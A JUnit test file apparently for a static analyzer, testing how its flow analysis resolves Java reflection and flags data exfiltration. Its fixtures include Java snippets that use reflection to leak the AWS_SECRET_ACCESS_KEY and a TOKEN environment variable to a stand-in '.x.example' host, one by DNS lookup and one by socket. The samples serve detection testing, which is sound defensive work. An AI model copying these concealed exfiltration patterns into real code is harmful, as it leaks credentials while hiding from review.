package dev.clearbox.analyzers.source;

import dev.clearbox.core.Finding;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Reflection in the flow analysis beyond the corpus: what it cannot resolve is a coverage item with its call
 * site, never dropped; what it resolves is not counted.
 */
class ReflectionFlowTest {
    @TempDir
    Path root;

    private static final String AGENT = """
            package com.acme;
            import java.lang.invoke.MethodHandle;
            import java.lang.reflect.Method;
            class Agent {
                void byVerb(String verb, Agent target, String data) throws Exception {
                    target.getClass().getMethod(verb, String.class).invoke(target, data);
                }
                void given(Method m) throws Exception {
                    m.invoke(null, "x");
                }
                void byClassName(String cls) throws Exception {
                    Class.forName(cls).getMethod("run").invoke(null);
                }
                void handle(MethodHandle h) throws Throwable {
                    h.invoke("x");
                }
                void reassigned(boolean b) throws Exception {
                    Method m = Agent.class.getMethod("run");
                    if (b) {
                        m = Agent.class.getMethod("stop");
                    }
                    m.invoke(this);
                }
                public void run() {
                }
                public void stop() {
                }
                void resolved() throws Exception {
                    Agent.class.getMethod("run").invoke(this);
                    Class.forName("com.acme.Agent").getDeclaredConstructor().newInstance();
                }
            }
            """;

    @Test
    void reflectionThatCannotBeResolvedIsCountedAndListedWithItsCallSite() {
        SourceAnalysisResult result = SourceFixture.in(root).file("src/main/java/com/acme/Agent.java", AGENT).analyze();
        List<SourceCoverage.UnresolvedCall> reflective = result.coverage().unresolvedCalls().stream()
                .filter(c -> c.call().startsWith("reflection: ")).toList();
        assertEquals(List.of(
                        "6: reflection: target.getClass().getMethod(verb, String.class).invoke(target, data) (method name not constant)",
                        "9: reflection: m.invoke(null, \"x\") (method not known: m is not assigned once where declared)",
                        "12: reflection: Class.forName(cls).getMethod(\"run\").invoke(null) (class name not constant)",
                        "15: reflection: h.invoke(\"x\") (method handle not followed)",
                        "22: reflection: m.invoke(this) (method not known: m is not assigned once where declared)"),
                reflective.stream().map(c -> c.line() + ": " + c.call()).toList());
        assertTrue(reflective.stream().allMatch(c -> c.file().equals("src/main/java/com/acme/Agent.java")));
        assertTrue(result.coverage().unresolvedCallCount() >= reflective.size(), "the count covers them");
    }

    @Test
    void aReflectiveCallOfANamedLibrarySinkIsAFlow() {
        SourceAnalysisResult result = SourceFixture.in(root).file("src/main/java/com/acme/Beacon.java", """
                package com.acme;
                import java.lang.reflect.Method;
                class Beacon {
                    static final String RESOLVER = "java.net." + "InetAddress";
                    void send() throws Exception {
                        Method lookup = Class.forName(RESOLVER).getMethod("getByName", String.class);
                        lookup.invoke(null, System.getenv("AWS_SECRET_ACCESS_KEY") + ".x.example");
                    }
                }
                """).analyze();
        List<Finding> flows = result.findings().stream().filter(f -> f.rule() == SourceRule.EXFIL).toList();
        assertEquals(1, flows.size(), result.findings().toString());
        assertEquals(7, flows.get(0).location().line());
        assertEquals("java.net.InetAddress#getByName", flows.get(0).api());
        assertEquals("reflection", flows.get(0).resolution());
        assertTrue(result.coverage().unresolvedCalls().stream().noneMatch(c -> c.call().startsWith("reflection: ")),
                result.coverage().unresolvedCalls().toString());
    }

    @Test
    void aLibraryConstructorAndAConnectionOpenedByReflectionReachTheModel() {
        SourceAnalysisResult result = SourceFixture.in(root).file("src/main/java/com/acme/Exfil.java", """
                package com.acme;
                import java.io.OutputStream;
                import java.net.Socket;
                class Exfil {
                    void open() throws Exception {
                        Socket.class.getConstructor(String.class, int.class).newInstance(System.getenv("TOKEN") + ".x.example", 443);
                    }
                    void write(Socket s) throws Exception {
                        OutputStream out = (OutputStream) s.getClass().getMethod("getOutputStream").invoke(s);
                        out.write(System.getenv("TOKEN").getBytes());
                    }
                    void quiet(Socket s) throws Exception {
                        s.getClass().getMethod("getInputStream").invoke(s, System.getenv("TOKEN"));
                    }
                }
                """).analyze();
        List<String> flows = result.findings().stream().filter(f -> f.rule() == SourceRule.EXFIL)
                .map(f -> f.location().line() + " " + f.api() + " " + f.resolution()).toList();
        assertEquals(List.of("6 java.net.Socket#<init> reflection", "9 java.net.Socket#getOutputStream reflection"),
                flows.stream().sorted().toList(), result.findings().toString());
    }

    @Test
    void aModelApiInheritedFromALibraryTypeAndCalledByReflectionIsACoverageItem() {
        SourceAnalysisResult result = SourceFixture.in(root).file("src/main/java/com/acme/Beacon.java", """
                package com.acme;
                import java.net.Socket;
                import java.net.SocketAddress;
                class Beacon extends Socket {
                    void dial(SocketAddress where) throws Exception {
                        Beacon.class.getMethod("connect", SocketAddress.class).invoke(this, where);
                    }
                }
                """).analyze();
        assertEquals(List.of("6: reflection: Beacon.class.getMethod(\"connect\", SocketAddress.class).invoke(this, where)"
                        + " (model API java.net.Socket#connect inherited by Beacon, by reflection, not followed)"),
                result.coverage().unresolvedCalls().stream().filter(c -> c.call().startsWith("reflection: "))
                        .map(c -> c.line() + ": " + c.call()).toList());
    }

    @Test
    void circularFieldsAndOverlongNamesEndAsCoverageItems() {
        String longName = "x".repeat(600);
        SourceAnalysisResult result = SourceFixture.in(root).file("src/main/java/com/acme/Loop.java", """
                package com.acme;
                import java.lang.reflect.Method;
                class Loop {
                    static final Method A = Loop.B;
                    static final Method B = Loop.A;
                    static final String HALF = "%s";
                    void f(String s) throws Exception {
                        A.invoke(null, s);
                        Loop.class.getMethod(HALF + HALF, String.class).invoke(this, s);
                    }
                }
                """.formatted(longName)).analyze();
        List<String> reflective = result.coverage().unresolvedCalls().stream().filter(c -> c.call().startsWith("reflection: "))
                .map(c -> c.line() + ": " + c.call().substring(c.call().lastIndexOf(" (") + 2)).toList();
        assertEquals(List.of("8: method not known: from Loop.A)", "9: method name not constant)"), reflective);
    }
}
